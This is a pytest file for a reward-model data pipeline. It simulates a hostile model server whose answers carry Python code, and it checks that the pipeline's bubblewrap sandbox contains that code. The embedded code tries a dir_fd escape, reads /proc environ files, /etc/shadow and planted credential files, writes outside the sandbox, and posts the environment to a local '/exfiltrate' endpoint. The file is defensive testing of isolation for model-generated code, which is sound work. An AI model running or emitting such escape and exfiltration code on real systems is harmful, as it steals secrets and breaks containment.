"""A hostile policy through the whole pipeline: its steps carry code that tries every
escape, `tool_verify: {run_code: true}` runs that code, and the secrets of the process
that runs it appear nowhere the run writes.

The policy is a real OpenAI-compatible HTTP server on 127.0.0.1 (below) that answers
every request with the same solution, whose steps hold fenced Python blocks: the
dir_fd escape of issue 12, reads of every /proc/<pid>/environ, /etc/shadow and the
home folder's credential files, a write outside through dir_fd, and a connection back
to the server to hand over whatever it found. `prm-data run --serial` runs as a
subprocess with HF_TOKEN and OPENAI_API_KEY set to MARKER.
"""

from __future__ import annotations

import json
import os
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from prm_data.sources.bank import generate_bank
from prm_data.warehouse import Warehouse
from reliability_support import cli_command, http_config

MARKER = "prm-e2e-secret-marker-93b1d7c4"
PROBLEMS = "bank:3:2:1"
CREDENTIALS = {".npmrc": f"//registry.npmjs.org/:_authToken={MARKER}\n",
               ".cargo/credentials.toml": f'[registry]\ntoken = "{MARKER}"\n',
               ".prefect/profiles.toml": f'[profiles.default]\nPREFECT_API_KEY = "{MARKER}"\n',
               ".cache/huggingface/token": MARKER}


def hostile_solution(home: Path, outside: Path, port: int, answer: int) -> str:
    """Steps separated by blank lines (no blank line inside a block), each ending in a claim,
    and the right final answer: the rollouts pass, get kept and reach the export."""
    read_everything = f"""```python
import os
depth = len(os.getcwd().strip('/').split('/'))
fd = os.open('.', os.O_RDONLY)
os.makedirs('d/' * depth)
os.chdir('d/' * depth)
up = '../' * depth
pids = [p for p in os.listdir('/proc') if p.isdigit()]
for rel in [f'proc/{{os.getppid()}}/environ', 'proc/self/environ'] + [f'proc/{{p}}/environ' for p in pids]:
    try:
        print(rel, os.read(os.open(up + rel, os.O_RDONLY, dir_fd=fd), 100000))
    except OSError as exc:
        print(rel, 'denied', exc.errno)
print('env', dict(os.environ))
print(4)
```
So the value is 4."""
    credentials = "\n".join(f"    {str(home / rel)!r}," for rel in CREDENTIALS)
    read_files = f"""```python
paths = [
    '/etc/shadow',
{credentials}
]
for path in paths:
    try:
        print(path, open(path).read())
    except OSError as exc:
        print(path, 'denied', exc.errno)
print(4)
```
So the value is 4."""
    write_and_call_home = f"""```python
import os, socket
fd = os.open('.', os.O_RDONLY)
target = '../' * 40 + {str(outside / 'escaped.txt')[1:]!r}
try:
    os.write(os.open(target, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), b'escaped')
    print('wrote outside')
except OSError as exc:
    print('write denied', exc.errno)
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)
    s.sendall(b'POST /exfiltrate HTTP/1.0\\r\\n\\r\\n' + repr(dict(os.environ)).encode())
    print('called home')
except OSError as exc:
    print('connect denied', exc.errno)
print(4)
```
So the value is 4."""
    return "\n\n".join([f"Step 1: first read what is around.\n{read_everything}",
                        f"Step 2: then the files.\n{read_files}",
                        f"Step 3: then leave a trace.\n{write_and_call_home}",
                        f"The answer is \\boxed{{{answer}}}."])


class HostilePolicy:
    """An OpenAI-compatible server whose every answer is the hostile solution; it keeps every
    byte it receives, so a leak through the network would show up in `received`."""

    def __init__(self, home: Path, outside: Path, problems: str = PROBLEMS):
        count, difficulty, seed = map(int, problems.split(":")[1:])
        answers = {p.question: p.answer for p in generate_bank(count, seed=seed, difficulty=difficulty)}
        self.received: list[bytes] = []
        self.answered = 0
        owner = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                return

            def do_GET(self):
                owner.received.append(self.path.encode())
                self._send({"object": "list", "data": [{"id": "sim-policy", "object": "model"}]})

            def do_POST(self):
                raw = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                owner.received.append(self.path.encode() + bytes(self.headers) + raw)
                body = json.loads(raw)
                asked = str(body.get("prompt", "")) + "".join(str(m.get("content")) for m in body.get("messages", []))
                answer = next((a for q, a in answers.items() if q in asked), 0)
                text = hostile_solution(home, outside, owner.port, answer)
                chat = self.path.rstrip("/").endswith("/chat/completions")
                choice = ({"index": 0, "message": {"role": "assistant", "content": text}} if chat
                          else {"index": 0, "text": text})
                owner.answered += 1
                self._send({"id": f"hostile-{owner.answered}", "object": "chat.completion" if chat else "text_completion",
                            "created": int(time.time()), "model": "sim-policy",
                            "choices": [{**choice, "finish_reason": "stop", "logprobs": None}],
                            "usage": {"prompt_tokens": 10, "completion_tokens": 200, "total_tokens": 210}})

            def _send(self, payload):
                data = json.dumps(payload).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/v1"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.httpd.shutdown()
        self.httpd.server_close()


def leaks_in_files(root: Path, skip: Path | None = None) -> list[str]:
    """Every file under root whose bytes hold MARKER, and every Parquet file whose decoded rows do."""
    found = []
    for path in sorted(root.rglob("*")):
        if not path.is_file() or (skip is not None and path.is_relative_to(skip)):
            continue
        if MARKER.encode() in path.read_bytes():
            found.append(f"bytes of {path.relative_to(root)}")
        if path.suffix == ".parquet":
            if MARKER in json.dumps(pq.read_table(path).to_pylist(), default=str):
                found.append(f"rows of {path.relative_to(root)}")
    return found


def leaks_in_tables(warehouse: Warehouse) -> list[str]:
    found = []
    for table in [r["view_name"] for r in warehouse.rows("SELECT view_name FROM duckdb_views() WHERE NOT internal")]:
        if any(MARKER in json.dumps(row, default=str) for row in warehouse.rows(f'SELECT * FROM "{table}"')):
            found.append(f"table {table}")
    return found


def test_the_leak_scanner_finds_the_marker_in_a_compressed_parquet_file(tmp_path):
    """Control: the scan below would see the marker if a shard held it."""
    pq.write_table(pa.table({"evidence": [json.dumps({"stdout": f"HF_TOKEN={MARKER}"})] * 100}),
                   tmp_path / "shard.parquet", compression="zstd")
    assert "rows of shard.parquet" in leaks_in_files(tmp_path)


@pytest.fixture()
def world(tmp_path):
    home = tmp_path / "home"
    for rel, text in CREDENTIALS.items():
        (home / rel).parent.mkdir(parents=True, exist_ok=True)
        (home / rel).write_text(text)
    outside = tmp_path / "outside"
    outside.mkdir()
    os.chmod(outside, 0o777)
    env = {**os.environ, "HF_TOKEN": MARKER, "OPENAI_API_KEY": MARKER, "HOME": str(home)}
    env.pop("PRM_DATA_WAREHOUSE", None)
    return home, outside, env


def run_config(tmp_path: Path, url: str) -> Path:
    return http_config(tmp_path / "hostile.yaml", url, name="hostile", source=PROBLEMS, shard_size=2,
                       rollouts=2, labelers=("mc_value", "tool_verify"), mc_k=2, export={"out_dir": "exports/hostile"},
                       reports_dir="reports", aggregate={"policy": "hybrid"})


def with_run_code(path: Path) -> Path:
    import yaml

    cfg = yaml.safe_load(path.read_text())
    cfg["labeling"]["tool_verify"] = {"run_code": True}
    path.write_text(yaml.safe_dump(cfg, sort_keys=False))
    return path


@pytest.mark.slow
@pytest.mark.network
def test_a_hostile_policys_code_leaves_the_parents_secrets_in_nothing_the_run_writes(tmp_path, world):
    home, outside, env = world
    with HostilePolicy(home, outside) as policy:
        config = with_run_code(run_config(tmp_path, policy.url))
        proc = subprocess.run(cli_command("--warehouse", str(tmp_path / "wh"), "run", "-c", str(config), "--serial"),
                              cwd=tmp_path, env=env, capture_output=True, text=True, timeout=600)
        assert proc.returncode == 0, proc.stderr[-3000:]
        assert policy.answered >= 6  # every rollout came from the hostile policy

    wh = Warehouse(tmp_path / "wh")
    leaks = ["stdout/stderr of the run"] if MARKER in proc.stdout + proc.stderr else []
    leaks += leaks_in_tables(wh)
    # every file the run left: shards, prm.duckdb, journals, exports, reports (the fake home holds the bait)
    leaks += leaks_in_files(tmp_path, skip=home)
    leaks += ["a request the policy received" for r in policy.received if MARKER.encode() in r]
    assert leaks == []
    checks = [c for row in wh.rows("SELECT evidence FROM step_labels WHERE labeler = 'tool_verify'")
              for c in json.loads(row["evidence"])["checks"] if c["check"] == "code"]
    assert len(checks) >= 18  # three blocks per rollout, each one run
    outputs = "\n".join(c["stdout"] for c in checks)
    # the code really ran, and what it saw: the kernel's refusals, an environment of its own
    assert "denied 13" in outputs or "denied 2" in outputs
    assert "write denied 2" in outputs and ("connect denied 111" in outputs or "connect denied 101" in outputs)
    assert "'HOME': '/tmp'" in outputs
    assert "called home" not in outputs and "wrote outside" not in outputs

    assert list(outside.iterdir()) == []
    assert (tmp_path / "exports" / "hostile").is_dir(), proc.stdout[-3000:] + proc.stderr[-3000:]
    assert any((tmp_path / "reports").rglob("*.png"))


@pytest.mark.slow
@pytest.mark.network
def test_without_isolation_a_run_code_config_is_refused_before_any_model_call(tmp_path, world):
    """No `bwrap` on PATH: `prm-data run` exits 2 (the config cannot run here) with one line; the policy is never asked."""
    home, outside, env = world
    env = {**env, "PATH": str(tmp_path / "empty-bin")}
    with HostilePolicy(home, outside) as policy:
        config = with_run_code(run_config(tmp_path, policy.url))
        proc = subprocess.run(cli_command("--warehouse", str(tmp_path / "wh"), "run", "-c", str(config), "--serial"),
                              cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300)
        assert policy.received == []
    assert proc.returncode == 2, proc.stderr[-3000:]  # refused at config load: a usage error
    [line] = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert line.startswith("error: ") and "bubblewrap" in line and "Traceback" not in proc.stderr
    assert not (tmp_path / "wh" / "tables").exists() or leaks_in_files(tmp_path / "wh") == []
